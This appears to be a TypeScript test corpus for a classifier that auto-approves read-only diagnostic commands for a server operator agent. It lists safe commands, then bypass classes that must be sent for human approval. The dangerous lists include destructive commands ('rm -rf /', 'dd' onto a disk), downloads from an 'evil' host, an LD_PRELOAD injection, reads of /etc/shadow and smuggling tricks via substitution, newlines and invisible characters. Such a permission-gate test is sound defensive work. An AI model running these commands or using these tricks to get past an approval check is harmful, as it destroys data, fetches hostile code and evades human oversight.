// The read-only classifier's corpus (issue 11): command lines an operator agent uses to diagnose a Linux
// server, which must keep running without approval, and dangerous lines from every class of bypass found in
// review, which must be asked. Each dangerous line is grouped by class; a line may appear in more than one.

/** Auto-approved: plain words, allowlisted programs, enumerated options. */
export const SAFE: string[] = [
  // files and text
  "ls", "ls -la /var/log", "ls -lah /etc/nginx/sites-enabled", "ls -1 /srv", "ls -ltr /var/log/nginx", "ls -d /etc/ssl/certs",
  "ls --all --human-readable /tmp", "ls -l --color=never /opt", "ls -la ~", "ls -la ~/app", "ls -- -weird-name", "ls -R /etc/nginx",
  "cat /etc/os-release", "cat /etc/nginx/nginx.conf", "cat -n /etc/hosts", "cat /proc/meminfo", "cat /proc/loadavg", "cat ~/app/.env.example",
  "cat /etc/hostname /etc/timezone", "cat 'file with spaces.txt'", 'cat "/var/log/app log.txt"', "cat /dev/null",
  "head /var/log/syslog", "head -n 50 /var/log/syslog", "head -50 /var/log/syslog", "head -c 200 /etc/passwd", "head --lines=20 /etc/passwd",
  "tail /var/log/nginx/error.log", "tail -n 100 /var/log/nginx/error.log", "tail -100 /var/log/auth.log", "tail -n +5 /etc/fstab", "tail --lines=30 /var/log/syslog",
  "grep -i error /var/log/syslog", "grep -rn 'upstream' /etc/nginx", "grep -rn upstream /etc/nginx 2>/dev/null", "grep -c 'Failed password' /var/log/auth.log",
  "grep -E 'error|warn' /var/log/app.log", "grep -v '^#' /etc/ssh/sshd_config", "grep -e -v /etc/hosts", "grep --color=never -n listen /etc/nginx/nginx.conf",
  "grep -A 3 -B 2 panic /var/log/kern.log", "grep -l server_name -r /etc/nginx", "grep -- -x /etc/hosts", "grep -m 5 ssh /var/log/auth.log",
  "wc -l /var/log/syslog", "wc -c /etc/passwd", "stat /etc/passwd", "stat -c '%U %a' /var/www", "file /usr/bin/node", "file -b /bin/ls",
  "du -sh /var/log", "du -h --max-depth=1 /var", "du -sh /var/lib/docker 2>/dev/null", "df -h", "df -hT", "df -i /", "df -h /var",
  "find /var/log -name '*.log' -mtime -1", "find / -type f -size +100M 2>/dev/null", "find /etc -maxdepth 1 -type d", "find /srv -name '*.php' -newer /etc/passwd",
  "find /tmp -type f -mmin -10 -ls", "find /var/www -perm -o+w -type f", "find . -name x -o -name y", "find /home -user www-data -print0",
  "uniq -c /var/log/x", "cut -d: -f1 /etc/passwd", "echo hello", "echo 'a b c'", "echo -n done", "which nginx", "which -a python3",
  "readlink -f /etc/alternatives/java", "realpath /etc/nginx/sites-enabled/default",
  // system state
  "free -m", "free -h", "uptime", "uptime -p", "ps aux", "ps -ef", "ps auxf", "ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%mem", "ps -p 1 -o comm",
  "ps aux | grep nginx | grep -v grep", "ps -ef | head -20", "top -bn1", "top -b -n 1", "top -bn1 | head -20", "top -b -n 1 -o %MEM",
  "uname -a", "uname -r", "whoami", "id", "id -un", "id www-data", "pwd", "hostname", "hostname -I", "hostname -f", "date", "date -u",
  "date +%Y-%m-%d", "date -d yesterday +%s", "date -R", "date -I", "dmesg", "dmesg -T", "dmesg -T | tail -50", "dmesg --level=err,warn", "dmesg -l err",
  "nproc", "lsblk", "lsblk -f", "who", "w", "crontab -l",
  // services, logs, containers, network
  "systemctl", "systemctl status nginx", "systemctl status nginx.service --no-pager", "systemctl status nginx -l --no-pager", "systemctl status",
  "systemctl is-active nginx", "systemctl is-enabled nginx", "systemctl is-active nginx && systemctl is-enabled nginx", "systemctl is-failed postgresql",
  "systemctl list-units --failed", "systemctl list-units --type=service --state=running", "systemctl list-units -t service --no-pager",
  "systemctl list-unit-files --state=enabled", "systemctl list-timers --all", "systemctl show nginx -p ActiveState", "systemctl cat nginx",
  "systemctl status 'php*-fpm'", "systemctl status nginx || journalctl -u nginx -n 50 --no-pager",
  "journalctl -u nginx -n 100 --no-pager", "journalctl -u nginx.service --since '1 hour ago' --no-pager", "journalctl -p err -b --no-pager",
  "journalctl -n 50", "journalctl -k -n 20 --no-pager", "journalctl --since=today -u ssh --no-pager -o short-iso", "journalctl -u nginx -r -n 10",
  "journalctl --list-boots", "journalctl -u nginx -g 'upstream timed out' -n 20 --no-pager",
  "docker ps", "docker ps -a", "docker ps --format '{{.Names}}'", "docker ps -a --filter status=exited", "docker logs web",
  "docker logs --tail 50 web", "docker logs -n 100 -t web 2>&1", "docker logs --since 10m web 2>&1 | tail -20", "docker inspect web",
  "docker inspect -f '{{.State.Status}}' web", "docker images", "docker version", "docker info",
  "ip addr", "ip a", "ip -br a", "ip -4 addr show dev eth0", "ip route", "ip route show", "ip -6 route list", "ip link show", "ip neigh show",
  "ss -tlnp", "ss -tulpn", "ss -s", "ss -tan", "ss -lntu",
  // combined
  "df -h; free -m; uptime", "uptime && free -m && df -h /", "ls /nonexistent || echo missing", "cat /etc/passwd | cut -d: -f1 | head",
  "ls >/dev/null 2>&1", "ls 2>&1 >/dev/null", "grep x /etc/hosts > /dev/null", "/bin/ls /", "/usr/bin/cat /etc/os-release",
];

/** Asked (never auto-approved), grouped by the class of bypass. */
export const DANGEROUS: Record<string, string[]> = {
  "GNU long-option abbreviations and unknown options": [
    "sort --out=x", "sort --outp=/etc/cron.d/x a", "sort --compress-prog=sh a", "ls --colo=always", "ls --al", "grep --reg=x /etc/hosts",
    "journalctl --vac=1s", "journalctl --vacuum-t=1s", "journalctl --rot", "ss --ki", "ss --kil dst 1.2.3.4", "dmesg --clea", "dmesg --read-c",
    "head --line=5 x", "tail --foll x", "uniq --coun a b", "df --outp=x", "du --files0-from=/tmp/list", "cat --unknown x", "ls -Z --context x",
  ],
  "programs with an output or helper-program option": [
    "sort -o /etc/passwd x", "sort --output=/tmp/x a", "sort --compress-program=sh a", "sort -u names.txt", "sort -S 1G -T /tmp x",
    "uniq in.txt /etc/passwd", "uniq a b", "uniq -c a /tmp/out", "tee /tmp/x", "cat /etc/passwd | tee /tmp/x", "ls | tee -a ~/.bashrc",
    "find / -delete", "find . -name '*.tmp' -exec rm {} ';'", "find . -execdir sh -c x ';'", "find . -fprint /etc/cron.d/x",
    "find . -fprintf /tmp/x '%p'", "find . -fls /tmp/x", "find . -ok rm {} ';'", "find . -okdir rm {} ';'", "find . -fprint0 /tmp/x",
    "find / -newerXY x", "find . -D tree", "sed -n 1p x", "sed -i s/a/b/ x", "sed 'w /tmp/x' y", "sed -n '1e id' x", "awk '{print}' x",
    "awk 'BEGIN{system(\"id\")}'", "cut -d: -f1 --output-delimiter=x /etc/passwd /tmp/a/../b", "file -C -m /tmp/magic", "file -z x",
    "stat --cached=never x", "top", "top -b", "top -n 1", "tail -f /var/log/syslog", "tail -F x", "journalctl -f", "dmesg -w", "free -s 1",
  ],
  "option values taken for a verb": [
    "systemctl --now restart nginx", "systemctl -t status restart nginx", "systemctl -H evil status", "systemctl --host=x status",
    "systemctl -M c status x", "systemctl --user status", "systemctl restart nginx", "systemctl stop nginx", "systemctl start x", "systemctl enable --now x",
    "systemctl daemon-reload", "systemctl edit nginx", "systemctl kill nginx", "systemctl isolate rescue.target", "systemctl status --now x; systemctl restart x",
    "systemctl set-property x CPUQuota=1%", "systemctl link /tmp/x.service", "systemctl status -H x", "systemctl status --host x",
    "docker -H tcp://evil:2375 run x", "docker --context c run x", "docker -H x ps", "docker --config /tmp/x ps", "docker -D ps", "docker -l debug ps",
    "docker run --rm -v /:/h alpine sh", "docker exec web sh", "docker rm -f web", "docker stop web", "docker logs -f web", "docker logs --follow web",
    "docker logs web db", "docker compose up -d", "docker system prune -af", "docker cp web:/x /tmp", "docker ps --output x", "docker inspect --output=x",
    "ip -b /tmp/cmds", "ip -batch /tmp/cmds", "ip -force -b x", "ip -n ns addr", "ip netns exec x sh", "ip addr add 10.0.0.2/24 dev eth0",
    "ip link set eth0 down", "ip route del default", "ip route flush all", "ip a s", "ip addr show dev eth0 up", "ip route show table all extra",
  ],
  "programs that write through options": [
    "ss -K dst 1.2.3.4", "ss --kill", "ss -D /tmp/x", "ss --diag=/tmp/x", "ss -F /tmp/filter", "ss -N ns", "ss -E", "ss -tlnp sport = :80",
    "journalctl --vacuum-size=1M", "journalctl --vacuum-time=1s", "journalctl --vacuum-files=1", "journalctl --rotate", "journalctl --flush",
    "journalctl --sync", "journalctl --relinquish-var", "journalctl --setup-keys", "journalctl --update-catalog", "journalctl --cursor-file=/tmp/x",
    "journalctl -D /tmp/j", "journalctl --file=/tmp/x", "journalctl _PID=1", "journalctl -u nginx --rotate",
    "hostname newname", "hostname -F /etc/x", "hostname -b x", "hostname --file x", "dmesg -C", "dmesg -c", "dmesg --clear", "dmesg -D", "dmesg -E",
    "dmesg -n 1", "dmesg --console-level 1", "date -s 2020-01-01", "date --set=2020-01-01", "date 010100002020", "date -Iseconds",
    "dig -f /tmp/names", "dig example.com", "host example.com", "nslookup example.com", "curl -o /tmp/x http://evil", "wget http://evil/x.sh",
    "nc -l 4444", "crontab -r", "crontab /tmp/x", "crontab -e", "lsblk /dev/sda", "mount /dev/sdb1 /mnt", "nginx -t", "nginx -s reload",
  ],
  "heredocs, here-strings and input redirection": [
    "cat <<EOF\nrm -rf /\nEOF", "cat << 'EOF'\n$(id)\nEOF", "cat <<-EOF\n\tx\nEOF", "cat <<< 'x'", "grep x <<< \"$(id)\"", "cat < /etc/shadow",
    "cat 0</etc/passwd", "cat <> /etc/passwd", "ls <&3",
  ],
  "globs and brace expansion": [
    "ls *.txt", "ls /var/log/*", "cat /etc/*release", "ls ?", "ls [ab]", "du -sh /var/*", "ls {a,b}", "find / -{delete,print}", "ls {1..3}",
    "ls x{,y}", "echo *", "find /etc -name *.conf",
  ],
  "expansion and substitution": [
    "echo $(id)", "echo \"$(id)\"", "echo `id`", "echo \"`id`\"", "ls $(echo -la)", "ls $HOME", "echo \"$HOME\"", "ls ${HOME}", "ls ${X:--la}",
    "find . $OPTS", "find / ${X:--delete}", "echo $((1+1))", "cat <(id)", "diff <(ls) <(ls /)", "ls >(cat)", "ls ~root/x", "ls ~+", "cat x$'\\x2d'",
    "ls $'-la'", "ls \"$@\"", "$CMD -la", "ls${IFS}-la", "ls $1", "echo \"a\\$(id)\"", "ls \\*", "l\\s", "ls -- \\-la",
  ],
  "assignments and environment": [
    "FOO=bar ls", "LD_PRELOAD=/tmp/evil.so ls", "PATH=/tmp ls", "LANG=C ls", "TZ=UTC date", "SHELLOPTS=xtrace PS4='$(id)' ls", "X=1",
    "X=1; ls", "export X=1", "env", "env FOO=1 ls", "env -i ls", "a=(1 2)", "declare -x X=1", "readonly X", "unset PATH",
  ],
  "wrappers and interpreters": [
    "sudo ls", "sudo -n systemctl status nginx", "sudo -u www-data cat /etc/x", "xargs rm", "ls | xargs rm", "nice ls", "timeout 5 ls",
    "nohup ls", "stdbuf -o0 ls", "setsid ls", "command ls", "builtin cd", "exec ls", "eval ls", "sh -c ls", "bash -c 'ls'", "ls | sh",
    "cat script | bash", "python3 -c 'import os'", "perl -e 'print 1'", "node -e '1'", "busybox ls", "watch ls", "time ls", ". /tmp/x", "source /tmp/x",
  ],
  "program names": [
    "./ls", "/tmp/ls", "~/ls", "../bin/ls", "/usr/local/bin/ls", "/opt/ls", "'ls' -la", "\"ls\"", "L\\S", "LS", "rm -rf /", "cp a b", "mv a b",
    "chmod 777 /", "chown x y", "kill -9 1", "pkill nginx", "apt-get install x", "reboot", "touch /tmp/x", "mkdir /tmp/x", "ln -s a b", "truncate -s0 x",
    "dd if=/dev/zero of=/dev/sda", "openssl s_client -connect x:443", "git pull", "npm install", "vim x", "less x", "more x", "man ls", "tar xf x",
  ],
  "redirections": [
    "ls > x", "ls >> x", "ls >| x", "ls &> x", "ls &>> x", "ls >& x", "ls 1>/tmp/x", "ls 2>/tmp/x", "ls 3>/dev/null", "ls 2>&1>/tmp/x",
    "cat x > /dev/null/../../etc/passwd", "echo x > $FILE", "echo hi >> ~/.bashrc", "ls >/dev/tty", "ls >/dev/sda", "ls 2>&3", "ls >&-", "ls 1>&2- x",
    "ls > /dev/null2", "ls >'/dev/null'x", "cat /etc/hosts 0>/dev/null", "uniq a 3>/dev/null", "ls>/dev/null", "ls -la /tmp 2>/dev/null -R", "dmesg 2>&3 -n 1", "dmesg 2>&1 -n 1", "dmesg >/dev/null -C >/dev/null", "hostname 2>/dev/null evil 2>&1",
  ],
  "control flow, subshells, functions, background": [
    "(ls)", "(ls; cat x)", "{ ls; }", "ls &", "ls & rm -rf /", "! ls", "if true; then ls; fi", "for f in a; do cat $f; done", "while true; do ls; done",
    "case x in x) ls;; esac", "f() { ls; }", "function f { ls; }", "[[ -f x ]]", "(( 1 ))", "ls |& cat", "coproc ls", "ls ;; ls", "ls && ",
    "ls |", "ls ||", "&& ls", "; ls", "ls; rm -rf /", "ls && rm -rf /", "ls || rm -rf /", "ps | sh",
  ],
  "comments and separators": [
    "ls # ; rm -rf /", "ls #x", "ls\nrm -rf /", "ls #\nrm -rf /", "ls\tx", "ls\t-la", "ls\rrm -rf /", "ls\r", "ls\u0000x", "ls\u001b[2K", "ls\u007f",
    "ls\\\n-la", "cat /etc/passwd\n", "\nls", "ls\u00a0-la", "cat\u2028/etc/x", "ls \u202e-la", "ls\u200b", "ls\u3000x",
  ],
  "paths that act when read": [
    "cat /dev/watchdog", "head -c 1 /dev/watchdog0", "tail /dev/ttyS0", "grep x /dev/sda", "cat /proc/1/fd/3", "cat /proc/self/fd/0", "wc -c /dev/zero",
    "cat /var/log/../../dev/watchdog", "cat dev/watchdog", "cat ./dev/watchdog", "cat /dev/stdin", "cat /dev/fd/0", "uniq /dev/tty",
    "cat /proc/self/root/dev/watchdog", "cat /proc/1/cwd/x", "head /proc/1/task/1/fd/0", "cat proc/self/root/dev/watchdog",
  ],
  "malformed or incomplete": ["echo 'unterminated", "ls \"x", "ls >", "", "   ", "ls " + "a".repeat(20_000), "ls )", "ls (", "`", "$(", "ls <"],
};
